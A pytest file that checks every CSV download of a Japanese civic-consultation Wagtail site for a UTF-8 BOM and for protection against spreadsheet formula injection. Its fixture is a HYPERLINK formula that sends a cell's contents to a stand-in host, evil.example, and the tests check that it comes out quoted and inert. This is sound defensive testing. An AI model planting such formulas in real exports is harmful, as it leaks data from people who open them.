"""Every CSV the site serves opens in Japanese Excel (UTF-8 with a BOM) and never runs text
someone typed as a formula: each download is found from the URL patterns and the Wagtail form
pages, and fetched with a text starting with = in it. Each case returns the URL and the cell
that text must become."""

import csv
import io
import re

import pytest
from django.apps import apps
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormMixin
from wagtail.models import Page

from consultations.services import group_create
from core.admin_spreadsheets import SafeSpreadsheetExportMixin
from tests.api.surveys_data import results_survey
from tests.community.consensus.votes import _votes
from tests.factories import (
    ConsultationIndexPageFactory,
    ConsultationPageFactory,
    ContactPageFactory,
    EventIndexPageFactory,
    EventPageFactory,
    OpinionFactory,
    RegionFactory,
    RegistrationFactory,
    StaffUserFactory,
    SurveyIndexPageFactory,
    TopicIndexPageFactory,
    TopicPageFactory,
)
from tests.surveys.respondent import question, survey_create
from tests.surveys.test_exports import submit

FORMULA = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
QUOTED = "'" + FORMULA  # how a CSV cell holds it: shown as typed, never run
NUMBER = re.compile(r"-?[0-9]+(\\.[0-9]+)?")


def _wagtails_own(view):
    """Wagtail's own staff screens (its reports: locked and aging pages, site history,
    workflows; redirects): what they export is typed by staff, never by visitors, and their
    views are not ours to replace. A viewset of ours names one of our models."""
    model = view.view_initkwargs.get("model")
    return view.view_class.__module__.startswith("wagtail.") and (
        model is None or model.__module__.startswith("wagtail.")
    )


def _patterns(resolver, prefix="", namespace=""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _patterns(entry, prefix + str(entry.pattern), inner)
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), f"{namespace}{entry.name}", entry.callback


def _survey_responses(home_page):
    survey = survey_create(
        question("short_text", "short", "一言"),
        parent=SurveyIndexPageFactory(parent=home_page),
        one_response=False,
    )
    submit(survey, {"short": FORMULA})
    return reverse("survey_results:export_responses_csv", args=[survey.pk]), QUOTED


def _survey_summary(home_page):
    survey = survey_create(
        question("short_text", "short", FORMULA),
        parent=SurveyIndexPageFactory(parent=home_page),
        min_group_size=1,
    )
    submit(survey, {"short": "はい"})
    return reverse("survey_results:export_summary_csv", args=[survey.pk]), QUOTED


def _topic(home_page):
    return TopicPageFactory(parent=TopicIndexPageFactory(parent=home_page))


def _consensus_opinions(home_page):
    topic = _topic(home_page)
    OpinionFactory(page=topic, body_source=FORMULA)
    return reverse("consensus:opinions_csv", args=[topic.pk]), QUOTED


def _consensus_votes(home_page):
    topic = _topic(home_page)
    region = RegionFactory(prefecture="13", name=FORMULA)
    _votes(OpinionFactory(page=topic), "agree", 10, region=region)
    # A region is written after its prefecture, so its name never starts a cell.
    return reverse("consensus:votes_csv", args=[topic.pk]), f"東京都 {FORMULA}"


def _contact_submissions(home_page):
    contact = ContactPageFactory(parent=home_page)
    name = contact.form_fields.get(label="お名前").clean_name
    contact.get_submission_class().objects.create(page=contact, form_data={name: FORMULA})
    url = reverse("wagtailforms:list_submissions", args=[contact.pk]) + "?export=csv"
    return url, QUOTED


def _consultation_outcome(home_page):
    topic = _topic(home_page)
    opinion = OpinionFactory(page=topic)
    outcome = ConsultationPageFactory(
        parent=ConsultationIndexPageFactory(parent=home_page), source=topic
    )
    group_create(consultation=outcome, summary=FORMULA, keys=[f"c{opinion.pk}"])
    outcome.save_revision().publish()
    # A page's own file (config.urls "page_file"): the outcome table under its page.
    return f"{outcome.url}outcome.csv", QUOTED


def _event_registrations(home_page):
    event = EventPageFactory(parent=EventIndexPageFactory(parent=home_page))
    RegistrationFactory(event=event, name=FORMULA)
    return reverse("event_staff:csv", args=[event.pk]), QUOTED


def _open_data_survey(home_page):
    # A choice of this survey is labelled =SUM(A1).
    survey = results_survey(parent=SurveyIndexPageFactory(parent=home_page))
    return reverse("opendata:survey_csv", args=[survey.pk]), "'=SUM(A1)"


def _open_data_topic(home_page):
    topic = _topic(home_page)
    OpinionFactory(page=topic, body_source=FORMULA)
    return reverse("opendata:topic_csv", args=[topic.pk]), QUOTED


DOWNLOADS = {
    "survey_results:export_responses_csv": _survey_responses,
    "survey_results:export_summary_csv": _survey_summary,
    "consensus:opinions_csv": _consensus_opinions,
    "consensus:votes_csv": _consensus_votes,
    "wagtailforms:list_submissions?export=csv": _contact_submissions,
    "page_file": _consultation_outcome,
    "event_staff:csv": _event_registrations,
    "opendata:survey_csv": _open_data_survey,
    "opendata:topic_csv": _open_data_topic,
}


def test_every_csv_download_of_the_site_is_checked_here():
    found = {name for route, name, _view in _patterns(get_resolver()) if "csv" in route + name}
    form_pages = [m for m in apps.get_models() if issubclass(m, FormMixin) and m is not Page]
    if form_pages:
        found.add("wagtailforms:list_submissions?export=csv")

    assert found == set(DOWNLOADS)


def test_every_wagtail_export_of_ours_uses_the_sites_writer():
    """Wagtail's export views (form data, listings with `list_export`) write their own CSV
    unless they use core.admin_spreadsheets."""
    views = [
        view.view_class
        for _route, _name, view in _patterns(get_resolver())
        if issubclass(getattr(view, "view_class", object), SpreadsheetExportMixin)
        and (view.view_initkwargs.get("list_export") or view.view_class.list_export)
        and not _wagtails_own(view)
    ]
    views += [
        model.submissions_list_view_class
        for model in apps.get_models()
        if issubclass(model, FormMixin) and model is not Page
    ]

    assert views
    assert [v for v in views if not issubclass(v, SafeSpreadsheetExportMixin)] == []


@pytest.mark.parametrize("download", DOWNLOADS)
def test_a_csv_download_has_a_bom_and_runs_no_formula(client, home_page, download):
    url, written = DOWNLOADS[download](home_page)
    client.force_login(StaffUserFactory(is_superuser=True))

    response = client.get(url)
    body = b"".join(response.streaming_content) if response.streaming else response.content

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith("\ufeff".encode()), "Excel in Japan reads it as Shift_JIS"
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert written in cells
    formulas = [
        cell
        for cell in cells
        if cell.startswith(("=", "+", "@", "\t", "\r"))
        or (cell.startswith("-") and not NUMBER.fullmatch(cell))
    ]
    assert formulas == []
